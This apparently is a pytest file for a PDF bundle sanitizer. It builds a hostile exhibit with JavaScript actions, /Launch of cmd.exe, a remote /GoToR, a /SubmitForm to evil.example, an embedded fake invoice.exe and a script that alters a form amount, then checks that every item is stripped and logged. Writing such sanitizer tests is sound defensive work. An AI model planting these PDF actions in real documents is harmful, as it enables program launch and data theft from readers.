"""sanitize: nothing in the bundle can act when it is opened or clicked, and the manifest says what went.

The hostile exhibit carries every kind of active content the issue lists;
the test walks every object of the bound PDF (not only those reachable from
its pages) and its raw bytes.
"""
from __future__ import annotations

import io
import json
from pathlib import Path

from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, NameObject

from bundle_helpers import DATE, make_case, simple_index
from hostile import raw_pdf
from restitution.bundle import write_bundle

FORBIDDEN = {"/JS", "/JavaScript", "/Launch", "/GoToR", "/SubmitForm", "/ImportData", "/AA", "/EmbeddedFile",
             "/FileAttachment", "/OpenAction", "/EF"}
TEXT = b"BT /F1 24 Tf 72 700 Td (Invoice 118) Tj ET\n"


def _link(action: bytes, y: int) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] /Border [0 0 0] /A %s >>" % (y, y + 20, action)


EXE = b"MZ\x90\x00 this is not really a program"
N = 40  # the embedded file's object number: after all of raw_pdf's own objects


def hostile_pdf(path: Path) -> Path:
    annots = [
        _link(b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>", 600),
        _link(b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>", 570),
        _link(b"<< /S /GoToR /F (\\\\\\\\evil-host\\\\share\\\\x.pdf) /D [0 /Fit] >>", 540),
        _link(b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >>", 510),
        _link(b"<< /S /ImportData /F (data.fdf) >>", 480),
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [400 600 420 620] /Name /Paperclip "
        b"/FS << /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F %d 0 R >> >> >>" % N,
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (USD 25,000) /Rect [72 400 300 430] "
        b"/AA << /K << /S /JavaScript /JS (event.value='0') >> >> "
        b"/AP << /N << /Type /XObject /Subtype /Form /BBox [0 0 228 30] /Length 8 >>\nstream\n0 0 1 rg\nendstream >> >>",
    ]
    pages = [
        {"content": TEXT, "annots": annots,
         "page_extra": b"/AA << /O << /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >> >>",
         # an action hidden in the resources, and a way back to the whole document (catalog)
         "resources_extra": b"/Foo << /S /JavaScript /JS (evil) >> /Back 1 0 R"},
        {"content": TEXT, "page_extra": b"/AA << /C << /S /Launch /F (calc.exe) >> >>"},
    ]
    made = 3 + sum(2 + len(p.get("annots", [])) for p in pages)  # catalog, page tree, font; per page
    extra = [b"<< /Dummy true >>"] * (N - 1 - made)
    extra.append(b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(EXE) + EXE + b"\nendstream")
    raw_pdf(path, pages, extra,
            catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> "
                          b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>")
    # the numbering above must have put the embedded file at object N
    assert b"%d 0 obj\n<< /Type /EmbeddedFile" % N in path.read_bytes()
    return path


def _names(obj, seen: set[int]):
    """Every dictionary key and name value under `obj` (direct objects), iteratively."""
    stack = [obj]
    while stack:
        o = stack.pop()
        if isinstance(o, DictionaryObject):
            for k, v in o.items():
                yield k
                stack.append(v)
        elif isinstance(o, ArrayObject):
            stack.extend(o)
        elif isinstance(o, NameObject):
            yield o


def test_no_active_content_anywhere_in_the_bundle(tmp_path: Path):
    hostile_pdf(tmp_path / "hostile.pdf")
    case = make_case(tmp_path, ["hostile.pdf"])
    files = write_bundle(case, tmp_path / "out", date=DATE, index=simple_index)
    data = files.pdf.read_bytes()
    reader = PdfReader(io.BytesIO(data))
    found = set()
    for idnum in range(1, int(reader.trailer["/Size"])):
        try:
            obj = reader.get_object(idnum)
        except Exception:
            continue
        if obj is None:
            continue
        found |= {str(n) for n in _names(obj, set())} & FORBIDDEN
    assert found == set()
    for word in (b"JavaScript", b"/Launch", b"/GoToR", b"/SubmitForm", b"/ImportData", b"/EmbeddedFile",
                 b"/FileAttachment", b"calc", b"cmd.exe", EXE):
        assert word not in data
    # what the page showed is still there: its text, and the form field's appearance
    assert "Invoice 118" in reader.pages[case.evidence[0].number + 1].extract_text()
    for page in reader.pages:
        assert "/Annots" not in page and "/AA" not in page
    assert "/OpenAction" not in reader.trailer["/Root"] and "/Names" not in reader.trailer["/Root"]

    removed = json.loads(files.manifest.read_text(encoding="utf-8"))["exhibits"][0]["removed"]
    text = json.dumps(removed)
    for words in ("page action /O: /JavaScript", "/Launch (cmd.exe", "/GoToR", "/SubmitForm", "/ImportData",
                  "FileAttachment annotation invoice.exe", "form field amount (flattened)", "/K: /JavaScript"):
        assert words in text, words
    assert {"page": 2, "removed": "page action /C: /Launch (calc.exe)"} in removed
    assert all(r["page"] in (1, 2, None) for r in removed)


def test_a_clean_pdf_records_no_removal(tmp_path: Path):
    raw_pdf(tmp_path / "clean.pdf", [{"content": TEXT}])
    case = make_case(tmp_path, ["clean.pdf"])
    files = write_bundle(case, tmp_path / "out", date=DATE, index=simple_index)
    assert json.loads(files.manifest.read_text(encoding="utf-8"))["exhibits"][0]["removed"] == []
